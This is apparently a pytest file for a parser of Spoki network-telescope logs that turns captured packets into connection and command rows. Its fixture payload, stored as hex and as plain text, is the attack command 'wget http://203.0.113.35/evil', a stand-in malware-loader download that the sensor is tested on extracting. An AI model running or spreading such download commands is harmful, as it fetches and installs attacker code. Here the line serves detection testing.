"""Spoki: packets as connections, payloads as commands; CSV and JSON say the same."""

from __future__ import annotations

import gzip
import io
import json
import os
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from noroshi.model.sensor import Batch, Reading
from noroshi.observe.decoy.spoki import SpokiJsonSensor, SpokiSensor
from tests.observe.decoy.support import DATA, rows

REAL = (DATA / "spoki_2021.csv").read_bytes()
HEAD = REAL.split(b"\n", 1)[0] + b"\n"
LOADER = (
    b"1634135138275|192.0.2.35|198.51.100.17|11727|64|tcp|41725|42|1908621218|1298131||7767657420687474703a2f2f3230332e"
    b"302e3131332e33352f6576696c|0|1|0|0|8192|true|tcp-rst|134217739|0|1908621218|2\n"
)


def packet(**more: Any) -> bytes:
    """The same packet in the JSON form."""
    tcp = {"sport": 41725, "dport": 42, "snum": 1, "anum": 1, "syn": False, "ack": True, "rst": False, "fin": False,
           "window_size": 8192, "options": {}, "payload": b"wget http://203.0.113.35/evil".hex()}  # fmt: skip
    base = {"saddr": "192.0.2.35", "daddr": "198.51.100.17", "ipid": 11727, "ttl": 64, "observed": 1634135138275,
            "protocol": "tcp", "tcp": tcp}  # fmt: skip
    return json.dumps({**base, **more}).encode() + b"\n"


def test_sniff() -> None:
    assert SpokiSensor().sniff(REAL[:4096])
    assert not SpokiSensor().sniff(b"ts,saddr,daddr\n")
    assert SpokiJsonSensor().sniff(packet())
    assert not SpokiJsonSensor().sniff(REAL)


def test_a_loader() -> None:
    found, rejects = rows(SpokiSensor(), HEAD + LOADER)
    assert rejects == []
    (seen,), (sent,) = found["connections"], found["commands"]
    assert (seen["src_ip"], seen["dst_port"], seen["state"], seen["src_byte_count"]) == (
        "192.0.2.35",
        42,
        "A",
        29,
    )
    assert str(seen["first_seen"]) == "2021-10-13 14:25:38.275000+00:00"
    assert sent["text"] == "wget http://203.0.113.35/evil"
    assert sent["mentions"] == ["url http://203.0.113.35/evil"]
    as_json, rejects = rows(SpokiJsonSensor(), packet())
    assert rejects == []
    for table in found:
        for row in (*found[table], *as_json[table]):
            row.pop("offset")
    assert as_json == found


def test_a_real_log() -> None:
    found, rejects = rows(SpokiSensor(), REAL)
    assert rejects == []
    assert (len(found["connections"]), len(found["commands"])) == (60, 35)
    assert found["connections"][0]["offset"] == len(HEAD)


@pytest.mark.parametrize(
    ("old", "new", "reason"),
    [
        (b"1634135138275", b"soon", "time"),
        (b"1634135138275", b"9999999999999", "time"),
        (b"192.0.2.35", b"192.0.2.999", "address"),
        (b"|tcp|41725", b"|gre|41725", "protocol"),
        (b"|2\n", b"|2|3|4\n", "columns"),
    ],
)
def test_rejects(old: bytes, new: bytes, reason: str) -> None:
    found, rejects = rows(SpokiSensor(), HEAD + LOADER.replace(old, new))
    assert found == {}
    assert [r.reason for r in rejects] == [reason]


def test_odd_values() -> None:
    found, rejects = rows(
        SpokiSensor(), HEAD + LOADER.replace(b"776765", b"zz6765").replace(b"|42|", b"|-42|")
    )
    assert rejects == []
    assert found["connections"][0]["dst_port"] == 0
    strange: list[dict[str, Any]] = [
        {"tcp": []},
        {"tcp": None},
        {"protocol": "udp", "udp": {"sport": "x", "payload": 7}},
    ]
    for odd in strange:
        assert len(rows(SpokiJsonSensor(), packet(**odd))[0]["connections"]) == 1


@pytest.mark.parametrize("cut", [0, 10, 200, 3_000])
def test_a_cut_log_and_its_continuation(cut: int) -> None:
    assert len(rows(SpokiSensor(), REAL[:cut])[1]) <= 1
    edge = REAL.index(b"\n", cut + 200) + 1
    later = Reading(io.BytesIO(REAL[edge:]), "-", 1_800_000_000_000_000, start=edge, head=REAL[:4096])
    count = sum(
        b.rows.num_rows for b in SpokiSensor().read(later) if isinstance(b, Batch) and b.table != "commands"
    )
    assert count == REAL[edge:].count(b"\n")


@given(st.lists(st.text(max_size=12), min_size=20, max_size=25), st.binary(max_size=60))
def test_anything_gives_rows_or_rejects(cells: list[str], rest: bytes) -> None:
    rows(SpokiSensor(), HEAD + "|".join(cells).encode("utf-8", "replace") + b"\n" + rest)
    rows(SpokiJsonSensor(), packet(tcp=dict.fromkeys(("sport", "payload", "syn"), cells[0])) + rest)


def test_an_hour_of_a_real_telescope_beside_an_independent_count() -> None:
    name = "darknet/logs/spoki_2021-10-13.21-00-00.test.spoki.tcp.raw.1634158800.csv.gz"
    path = Path(os.environ.get("NOROSHI_DATA", ""), name)
    if not path.is_file():
        pytest.skip(f"set NOROSHI_DATA to a folder with {name}")
    data = gzip.decompress(path.read_bytes())
    cells = [x.split("|") for x in data.decode().splitlines()[1:]]
    found, rejects = rows(SpokiSensor(), data)
    assert rejects == []
    assert len(found["connections"]) == len(cells) == 5_069
    assert len(found["commands"]) == sum(bool(c[11]) for c in cells)
    states = Counter(c["state"] for c in found["connections"])
    assert states["S"] == sum(c[12:16] == ["1", "0", "0", "0"] for c in cells) == 374
